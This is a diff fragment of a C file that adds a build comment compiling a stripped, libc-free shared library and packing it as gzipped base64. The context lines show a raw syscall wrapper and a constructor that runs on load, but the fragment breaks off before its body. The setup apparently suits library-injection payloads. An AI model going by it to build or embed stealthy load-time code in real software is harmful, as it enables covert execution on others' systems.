@@ -1,3 +1,5 @@
+/* gcc -shared -fPIC -nostdlib -Os -s -Wl,--build-id=none -Wl,-z,noseparate-code -Wl,--hash-style=sysv
+   -o library.so library.c && gzip -9nc library.so | base64 -w0 > library.b64 */
 static long call(long n,long a,long b,long c){long r;__asm__ volatile("syscall":"=a"(r):"a"(n),"D"(a),"S"(b),"d"(c):"rcx","r11","memory");return r;}
 static char text[4096];
 __attribute__((constructor)) static void start(void){
